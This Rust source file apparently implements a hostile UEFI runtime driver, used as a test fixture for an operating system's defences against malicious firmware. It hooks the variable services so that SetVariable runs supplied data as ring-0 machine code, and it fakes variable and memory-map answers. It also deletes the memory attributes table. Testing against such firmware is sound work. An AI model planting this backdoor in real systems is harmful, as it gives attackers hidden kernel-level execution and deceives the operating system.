//! The part that stays: it stands before three runtime services. Everything that does not concern its own variables goes
//! to the firmware's own services.
//!
//! SetVariable under [`VENDOR`] runs the data as machine code, at CPL 0, with memory mapped one to one (by page
//! tables of this driver's own if need be) and interrupts off; RCX points to the [`Plan`]. GetVariable under [`VENDOR`] gives what the
//! code left in RAX. The plan tells which lies the services are to tell from then on.
//!
//! The firmware's memory map lies as well: the registers of QEMU's `edu`, which does DMA, are in it as a device of the runtime services.

use core::arch::{asm, global_asm};
use core::ptr;
use core::sync::atomic::{AtomicUsize, Ordering::Relaxed};

use uefi::boot::{self, AllocateType, MemoryType};
use uefi::table::cfg::ConfigTableEntry;
use uefi_raw::table::boot::{BootServices, MemoryAttribute, MemoryDescriptor};
use uefi_raw::table::runtime::{RuntimeServices, VariableAttributes};
use uefi_raw::{Char16, Guid, Status, guid};

use crate::application::sign;

/// Whose variables are this driver's.
const VENDOR: Guid = guid!("0badf00d-5eed-4bad-8bad-c0de0badc0de");

const PAGE: usize = 0x1000;
/// Memory of the driver: two page tables (the first at its start), code, plan, stack.
const BLOCK_PAGES: usize = 8;
const PDPT: usize = PAGE;
const CODE: usize = 2 * PAGE;
const PLAN: usize = 3 * PAGE;

/// What the services answer. All zeros is no lie. `tests/tests/attacks/firmware/lies.rs` knows the offsets.
#[repr(C)]
struct Plan {
    /// Status of the SetVariable that runs the code.
    set_status: usize,
    /// Whether GetVariable under [`VENDOR`] lies.
    get_lies: usize,
    get_status: usize,
    get_size: usize,
    /// Whether GetNextVariableName starts with a variable that there is not.
    next_lies: usize,
    next_status: usize,
    next_size: usize,
    /// Characters of its name; where they fill the buffer no zero follows.
    next_length: usize,
    next_vendor: Guid,
    /// What the code left in RAX.
    result: usize,
}

// RCX: the block; RDX: page tables to use, or 0. Called at its physical address: all tables map it there.
global_asm!(
    "hostile_run:",
    "   push rbx",
    "   push rbp",
    "   push rdi",
    "   push rsi",
    "   push r12",
    "   push r13",
    "   push r14",
    "   push r15",
    "   pushfq",
    "   cli",
    "   mov rbx, rsp",
    "   mov rbp, cr3",
    "   test rdx, rdx",
    "   jz 2f",
    "   mov cr3, rdx",
    "2: lea rsp, [rcx + {end}]",
    "   push rbx",
    "   push rbp",
    "   push rdx",
    "   lea rax, [rcx + {code}]",
    "   add rcx, {plan}",
    "   call rax",
    "   pop rdx",
    "   pop rbp",
    "   pop rbx",
    "   test rdx, rdx",
    "   jz 3f",
    "   mov cr3, rbp",
    "3: mov rsp, rbx",
    "   popfq",
    "   pop r15",
    "   pop r14",
    "   pop r13",
    "   pop r12",
    "   pop rsi",
    "   pop rdi",
    "   pop rbp",
    "   pop rbx",
    "   ret",
    end = const BLOCK_PAGES * PAGE,
    code = const CODE,
    plan = const PLAN,
);

type GetVariable = unsafe extern "efiapi" fn(
    *const Char16,
    *const Guid,
    *mut VariableAttributes,
    *mut usize,
    *mut u8,
) -> Status;
type SetVariable =
    unsafe extern "efiapi" fn(*const Char16, *const Guid, VariableAttributes, usize, *const u8) -> Status;
type GetNext = unsafe extern "efiapi" fn(*mut usize, *mut u16, *mut Guid) -> Status;
type GetMap =
    unsafe extern "efiapi" fn(*mut usize, *mut MemoryDescriptor, *mut usize, *mut usize, *mut u32) -> Status;
type Run = unsafe extern "efiapi" fn(usize, usize) -> usize;

unsafe extern "efiapi" {
    fn hostile_run(block: usize, tables: usize) -> usize;
}

// Physical addresses, as at boot time. An operating system may have the firmware move its pointers to virtual addresses,
// but Linux keeps everything mapped one to one as well.
static BLOCK: AtomicUsize = AtomicUsize::new(0);
static RUN: AtomicUsize = AtomicUsize::new(0);
static GET: AtomicUsize = AtomicUsize::new(0);
static SET: AtomicUsize = AtomicUsize::new(0);
static NEXT: AtomicUsize = AtomicUsize::new(0);
static MAP: AtomicUsize = AtomicUsize::new(0);
/// Registers of QEMU's `edu`, if the machine has one.
static EDU: AtomicUsize = AtomicUsize::new(0);

/// Puts the driver in place.
pub fn install() {
    /// Present, writable, a page of 1 GiB.
    const LARGE: usize = 0x83;
    const TABLE: usize = 0x03;
    let block = boot::allocate_pages(AllocateType::AnyPages, MemoryType::RUNTIME_SERVICES_CODE, BLOCK_PAGES);
    let block = block.expect("memory").as_ptr();
    let system = uefi::table::system_table_raw().expect("system table");
    // SAFETY: boot time: the block is this driver's, all memory is mapped one to one, and the table is the firmware's
    // own, which nobody else uses meanwhile.
    unsafe {
        block.write_bytes(0, BLOCK_PAGES * PAGE);
        block.cast::<usize>().write((block as usize + PDPT) | TABLE);
        for gib in 0..512 {
            block.add(PDPT).cast::<usize>().add(gib).write((gib << 30) | LARGE);
        }
        BLOCK.store(block as usize, Relaxed);
        RUN.store(hostile_run as *const () as usize, Relaxed);
        let table: *mut RuntimeServices = (*system.as_ptr()).runtime_services;
        GET.store((*table).get_variable as usize, Relaxed);
        SET.store((*table).set_variable as usize, Relaxed);
        NEXT.store((*table).get_next_variable_name as usize, Relaxed);
        (*table).get_variable = get_variable;
        (*table).set_variable = set_variable;
        (*table).get_next_variable_name = get_next;
        sign(&raw mut (*table).header);
        let services: *mut BootServices = (*system.as_ptr()).boot_services;
        EDU.store(find_edu(), Relaxed);
        MAP.store((*services).get_memory_map as usize, Relaxed);
        (*services).get_memory_map = get_memory_map;
        sign(&raw mut (*services).header);
        // OVMF's table of memory attributes says that this late driver cannot run. Without the table anything can.
        let _ = boot::install_configuration_table(&ConfigTableEntry::MEMORY_ATTRIBUTES_GUID, ptr::null());
    }
}

/// Where QEMU's device for lessons has its registers, or 0.
unsafe fn find_edu() -> usize {
    const EDU_ID: u32 = 0x11e8_1234;
    let read = |device: u32, register: u32| {
        let address = 0x8000_0000 | device << 11 | register;
        let value: u32;
        // SAFETY: a read of PCI configuration space, at boot time on one CPU.
        unsafe {
            asm!("out dx, eax", in("dx") 0xcf8u16, in("eax") address, options(nomem, nostack));
            asm!("in eax, dx", in("dx") 0xcfcu16, out("eax") value, options(nomem, nostack));
        }
        value
    };
    let device = (0..32).find(|device| read(*device, 0) == EDU_ID);
    device.map_or(0, |device| (read(device, 0x10) & !0xf) as usize)
}

/// The map, with a device in it that is not firmware's.
unsafe extern "efiapi" fn get_memory_map(
    size: *mut usize,
    map: *mut MemoryDescriptor,
    key: *mut usize,
    each: *mut usize,
    version: *mut u32,
) -> Status {
    const EDU_PAGES: u64 = 0x100;
    // SAFETY: the caller's pointers are good for what the UEFI specification says they are, and `MAP` is the firmware's service.
    unsafe {
        let real: GetMap = core::mem::transmute(MAP.load(Relaxed));
        let room = *size;
        let mut status = real(size, map, key, each, version);
        let edu = EDU.load(Relaxed);
        if edu == 0 || !(status.is_success() || status == Status::BUFFER_TOO_SMALL) {
            return status;
        }
        let at = *size;
        *size += *each;
        if status.is_success() && *size > room {
            status = Status::BUFFER_TOO_SMALL;
        }
        if status.is_success() {
            map.byte_add(at).write(MemoryDescriptor {
                ty: MemoryType::MMIO,
                phys_start: edu as u64,
                virt_start: 0,
                page_count: EDU_PAGES,
                att: MemoryAttribute::UNCACHEABLE | MemoryAttribute::RUNTIME,
                ..MemoryDescriptor::default()
            });
        }
        status
    }
}

fn block() -> *mut u8 {
    ptr::with_exposed_provenance_mut(BLOCK.load(Relaxed))
}

fn plan() -> *mut Plan {
    block().wrapping_add(PLAN).cast()
}

unsafe extern "efiapi" fn set_variable(
    name: *const Char16,
    vendor: *const Guid,
    attributes: VariableAttributes,
    size: usize,
    data: *const u8,
) -> Status {
    // SAFETY: the caller's pointers are good for what the UEFI specification says they are; the addresses stored are
    // those of functions of these types.
    unsafe {
        if vendor.read_unaligned() != VENDOR {
            let real: SetVariable = core::mem::transmute(SET.load(Relaxed));
            return real(name, vendor, attributes, size, data);
        }
        if size > PAGE {
            return Status::INVALID_PARAMETER;
        }
        ptr::copy_nonoverlapping(data, block().wrapping_add(CODE), size);
        plan().cast::<u8>().write_bytes(0, size_of::<Plan>());
        let run: Run = core::mem::transmute(RUN.load(Relaxed));
        // Where nobody has moved this code, the caller's tables map memory one to one. Cordon lets nobody change them.
        let moved = hostile_run as *const () as usize != RUN.load(Relaxed);
        let result = run(BLOCK.load(Relaxed), if moved { BLOCK.load(Relaxed) } else { 0 });
        (*plan()).result = result;
        Status((*plan()).set_status)
    }
}

unsafe extern "efiapi" fn get_variable(
    name: *const Char16,
    vendor: *const Guid,
    attributes: *mut VariableAttributes,
    size: *mut usize,
    data: *mut u8,
) -> Status {
    // SAFETY: as above.
    unsafe {
        if vendor.read_unaligned() != VENDOR {
            let real: GetVariable = core::mem::transmute(GET.load(Relaxed));
            return real(name, vendor, attributes, size, data);
        }
        let plan = &*plan();
        let room = size.read();
        if !attributes.is_null() {
            attributes.write(VariableAttributes::BOOTSERVICE_ACCESS | VariableAttributes::RUNTIME_ACCESS);
        }
        if plan.get_lies != 0 {
            size.write(plan.get_size);
            return Status(plan.get_status);
        }
        size.write(size_of::<usize>());
        if room < size_of::<usize>() {
            return Status::BUFFER_TOO_SMALL;
        }
        data.cast::<usize>().write_unaligned(plan.result);
        Status::SUCCESS
    }
}

unsafe extern "efiapi" fn get_next(size: *mut usize, name: *mut u16, vendor: *mut Guid) -> Status {
    // SAFETY: as above.
    unsafe {
        let plan = &*plan();
        if plan.next_lies != 0 {
            if name.read() == 0 {
                let room = size.read() / 2;
                for at in 0..room.min(plan.next_length + 1) {
                    let character = if at < plan.next_length { u16::from(b'A') } else { 0 };
                    name.add(at).write(character);
                }
                vendor.write_unaligned(plan.next_vendor);
                size.write(plan.next_size);
                return Status(plan.next_status);
            }
            if vendor.read_unaligned() == plan.next_vendor {
                name.write(0);
            }
        }
        let real: GetNext = core::mem::transmute(NEXT.load(Relaxed));
        real(size, name, vendor)
    }
}
